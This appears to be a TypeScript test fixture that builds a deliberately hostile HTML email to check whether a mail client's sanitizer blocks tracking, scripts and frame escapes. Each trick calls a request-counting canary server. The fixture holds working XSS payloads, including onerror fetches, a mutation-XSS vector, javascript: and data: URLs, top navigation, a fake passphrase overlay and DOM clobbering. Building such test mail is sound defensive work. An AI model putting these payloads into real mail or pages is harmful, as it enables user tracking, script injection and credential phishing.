// A mail that tries everything to tell somebody that it was read, to run script, or to leave its frame. Each address names
// its trick, so that a request at the canary names what got through.

/** `canary`: origin of a server that counts requests. */
export const hostileMail = (canary: string): string => `<html><head>
<meta http-equiv="refresh" content="0; url=${canary}/meta-refresh"><base href="${canary}/base/">
<link rel="stylesheet" href="${canary}/css-link"><link rel="preload" as="image" href="${canary}/preload"><link rel="prefetch" href="${canary}/prefetch">
<link rel="dns-prefetch" href="//dns.invalid"><link rel="icon" href="${canary}/icon">
<style>@import url(${canary}/css-import); @import "${canary}/css-import-text"; @font-face{font-family:spy;src:url(${canary}/font)}
body{font-family:spy;background:url(${canary}/css-background)} .box{background-image:image-set("${canary}/image-set" 1x);list-style-image:url(${canary}/list-style)}
.box::before{content:url(${canary}/content)} .box{cursor:url(${canary}/cursor),auto;border-image:url(${canary}/border-image) 30;mask-image:url(${canary}/mask);filter:url(${canary}/filter.svg#f)}
:root{--spy:url(${canary}/variable)} .box{background:var(--spy)} .cover{position:fixed;inset:0;z-index:9999;background:#fff} .shown{color:rgb(1, 2, 3)}</style>
</head><body onload="fetch('${canary}/body-onload')" background="${canary}/body-background">
<p class="shown box" id="location" style="padding:7px;background:url(${canary}/style-attribute)">the words of the mail</p>
<script>new Image().src='${canary}/inline-script';top.location='${canary}/script-top'</script><script src="${canary}/script-src"></script>
<img src="${canary}/img" onerror="fetch('${canary}/img-onerror')"><img src="x" onerror="fetch('${canary}/onerror-relative')"><img srcset="${canary}/srcset 1x"><img src="/relative">
<picture><source srcset="${canary}/source"><img alt=""></picture><input type="image" src="${canary}/input-image">
<video poster="${canary}/poster" src="${canary}/video" autoplay></video><audio src="${canary}/audio" autoplay></audio><track src="${canary}/track">
<iframe src="${canary}/iframe"></iframe><iframe srcdoc="<img src='${canary}/srcdoc'>"></iframe><object data="${canary}/object"></object><embed src="${canary}/embed">
<svg><image href="${canary}/svg-image"/><use href="${canary}/svg-use#x"/><filter id="q"><feImage href="${canary}/svg-feimage"/></filter><rect filter="url(#q)" width="9" height="9"/><script>fetch('${canary}/svg-script')</script><animate attributeName="href" to="${canary}/svg-animate"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="fetch('${canary}/mutation-xss')"></style></mglyph></table></mtext></math>
<form action="${canary}/form" method="post"><input name="secret" value="typed"><button id="submit">go</button></form>
<template><img src="${canary}/template"></template><noscript><img src="${canary}/noscript"></noscript><table background="${canary}/table-background"><tr><td background="${canary}/td-background">cell</td></tr></table>
<a class="probe" href="${canary}/link-self">self</a> <a class="probe" target="_blank" href="${canary}/link-blank">blank</a> <a class="probe" target="_top" href="${canary}/link-top">top</a>
<a class="probe" ping="${canary}/ping" href="${canary}/link-ping">ping</a> <a class="probe" href="javascript:fetch('${canary}/javascript-url')">script</a> <a class="probe" href="data:text/html,<script>fetch('${canary}/data-url')</script>">data</a>
<div class="cover">Your session ended. Type your passphrase: </div><div style="height:300vh">as tall as three frames</div><form name="body"></form><img name="getElementById"><p>the last words</p>
</body></html>`;
